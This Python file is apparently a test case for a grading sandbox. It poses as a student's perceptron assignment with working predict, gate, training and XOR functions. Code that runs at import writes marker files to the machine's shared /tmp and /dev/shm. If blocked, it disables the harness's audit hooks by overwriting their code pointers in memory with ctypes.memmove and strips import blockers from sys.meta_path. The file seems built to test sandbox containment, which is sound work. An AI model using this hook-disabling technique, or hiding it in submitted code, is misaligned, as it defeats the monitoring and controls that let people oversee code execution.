"""Perceptrons that leave files behind in the machine's shared temporary folders.

What it attacks: cleanup, and the boundary of what a student process may write. At import it writes
/dev/shm/grader-leftover-leftover_files and /tmp/grader-leftover-leftover_files (plain Python first;
if the audit hook refuses, after switching it off with ctypes.memmove of a no-op's code into the hook).
A sandbox with private /tmp and /dev/shm lets it write them inside, and they vanish with it; the
machine's own must stay untouched. Its functions are right.
"""

import gc
import os
import struct
import sys
import time
import types

import numpy as np

TAG = "corpus-case=leftover_files"
TARGETS = ("/dev/shm/grader-leftover-leftover_files", "/tmp/grader-leftover-leftover_files")


# -- switching the audit hook off -------------------------------------------------------------


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


def _write_all():
    written = []
    for path in TARGETS:
        try:
            with open(path, "a") as f:
                f.write(f"{TAG} pid {os.getpid()} at {time.time():.3f}\n")
            written.append(path)
        except OSError:
            continue
    return written


def _attack():
    written = _write_all()
    if len(written) < len(TARGETS):
        try:
            _disarm_audit_hooks()
        except Exception:
            pass
        written = _write_all()
    print(f"{TAG}: wrote {', '.join(written) or 'nothing'}", flush=True)


_attack()


def predict(X, w, b):
    """Step-activated perceptron.

    X: (N, D); w: (D,); b: float. Returns (N,) int: 1 where X.w + b > 0, else 0.
    """
    return (np.asarray(X, dtype=np.float64) @ np.asarray(w, dtype=np.float64) + b > 0).astype(np.int64)


def and_gate():
    """Return (w, b), w of shape (2,), such that predict gives AND on the truth table."""
    return np.array([1.0, 1.0]), -1.5


def or_gate():
    """Return (w, b), w of shape (2,), such that predict gives OR on the truth table."""
    return np.array([1.0, 1.0]), -0.5


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    """Rosenblatt's rule from w = 0, b = 0, visiting samples in order.

    On a mistake: w += lr * (y - y_hat) * x and b += lr * (y - y_hat).
    X: (N, D); y: (N,) in {0, 1}. Returns (w, b, converged), where converged is
    True as soon as one full epoch makes no mistake.
    """
    X = np.asarray(X, dtype=np.float64)
    w = np.zeros(X.shape[1])
    b = 0.0
    for _ in range(max_epochs):
        mistakes = 0
        for x_n, y_n in zip(X, y):
            error = y_n - int(x_n @ w + b > 0)
            if error:
                w = w + lr * error * x_n
                b = b + lr * error
                mistakes += 1
        if mistakes == 0:
            return w, float(b), True
    return w, float(b), False


def xor_network():
    """Weights of a two-layer step network that computes XOR.

    Returns {"W1": (2, H), "b1": (H,), "W2": (H,), "b2": float} such that
    step(step(X @ W1 + b1) @ W2 + b2) is XOR of the two inputs.
    """
    # Hidden units: OR and AND; output: OR and not AND.
    return {
        "W1": np.array([[1.0, 1.0], [1.0, 1.0]]),
        "b1": np.array([-0.5, -1.5]),
        "W2": np.array([1.0, -1.0]),
        "b2": -0.5,
    }
